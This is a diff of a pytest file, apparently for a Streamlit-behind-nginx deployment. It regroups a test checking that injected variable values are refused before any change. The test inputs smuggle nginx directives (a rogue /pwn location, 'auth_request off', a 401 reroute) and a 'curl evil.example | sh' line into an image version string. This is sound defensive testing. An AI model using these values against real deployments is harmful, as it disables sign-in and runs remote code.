@@ -387,30 +387,37 @@ def test_3_dns_rebinding_gets_no_app(deployed):
 
 # --- 4: values that would add nginx directives ----------------------------------------------------
 
-@pytest.mark.parametrize("variable, value", [
-    ("nginx_location_server_name", 'x; location /pwn {return 200 "pwned";} server_name y'),
-    ("nginx_location_proxy_timeout", "1d; add_header X-Injected 1"),
-    ("nginx_location_proxy_timeout", "1d\n"),
-    ("nginx_location_extra_directives", ["add_header X-A 1; } location /pwn { return 200 pwned;"]),
-    # A directive that would change the sign-in: 401s passed to a location of the user's instead of the sign-in.
-    ("nginx_location_extra_directives", ["error_page 401 = @open;"]),
-    ("streamlit_version", "1.67.0\nRUN curl evil.example | sh"),
-    ("nginx_location_auth_url", "http://auth.example/oauth2/auth; auth_request off"),
+# One check task per role names every wrong variable at once: the values each role checks are sent together
+# (one run each, for CI time), and each must be named.
+@pytest.mark.parametrize("values", [
+    {"nginx_location_server_name": 'x; location /pwn {return 200 "pwned";} server_name y',
+     "nginx_location_proxy_timeout": "1d; add_header X-Injected 1",
+     # A block of its own, and a directive that would change the sign-in (401s to a location of the user's).
+     "nginx_location_extra_directives": ["add_header X-A 1; } location /pwn { return 200 pwned;", "error_page 401 = @open;"],
+     "nginx_location_auth_url": "http://auth.example/oauth2/auth; auth_request off"},
+    {"nginx_location_proxy_timeout": "1d\n"},
+    # Into the image recipe; and native sign-in without a client secret, under the attack's short cookie secret
+    # (17 characters).
+    {"streamlit_version": "1.67.0\nRUN curl evil.example | sh",
+     "streamlit_auth": {"server_metadata_url": "https://idp.example/.well-known/openid-configuration", "client_id": "c"}},
     # Identity headers without a sign-in: the children (changed first) refuse too, not only the masters.
-    ("streamlit_trusted_user_headers", {"X-Auth-Request-Email": "email"}),
-    # Native sign-in without a client secret, under the attack's short cookie secret (17 characters).
-    ("streamlit_auth", {"server_metadata_url": "https://idp.example/.well-known/openid-configuration", "client_id": "c"}),
-])
-def test_4_injected_directives_fail_before_any_change(host, site, deployed, variable, value):
+    {"streamlit_trusted_user_headers": {"X-Auth-Request-Email": "email"}},
+], ids=["nginx_values", "newline", "image_and_login", "identity_headers"])
+def test_4_injected_directives_fail_before_any_change(host, site, deployed, values):
     before = host.check_output(NGINX_FILES)
-    # An nginx value is checked on the master (the children's play, unchanged, is skipped for time).
-    code, output = site({variable: value}, limit=None if variable.startswith("streamlit_") else "master")
+    # Nginx values are checked on the master (the children's play, unchanged, is skipped for time).
+    code, output = site(values, limit=None if any(name.startswith("streamlit_") for name in values) else "master")
     after = host.check_output(NGINX_FILES)
     pwned = request("GET", "/pwn")[0]
-    record("%s = %r" % (variable, value), "fails naming the variable, nothing changed, /pwn not served",
-           "rc %d, named %s, nginx files %s, /pwn %d" % (code, (variable + ":") in output, "unchanged" if after == before else "CHANGED", pwned),
-           code != 0 and (variable + ":") in output and after == before and pwned != 200
+    named = [name for name in values if (name + ":") in output]
+    record("%s" % ", ".join("%s = %r" % item for item in values.items()),
+           "fails naming each variable, nothing changed, /pwn not served",
+           "rc %d, named %d of %d, nginx files %s, /pwn %d" % (code, len(named), len(values), "unchanged" if after == before else "CHANGED", pwned),
+           code != 0 and len(named) == len(values) and after == before and pwned != 200
            and changed_nowhere(output))
+    # Both directives of the list are refused, each for its own reason.
+    if "nginx_location_extra_directives" in values:
+        assert "would set an identity header or change the sign-in" in output and "one directive each" in output, output[-3000:]
 
 
 # --- 5: a change whose run died before nginx or the container applied it ------------------------------
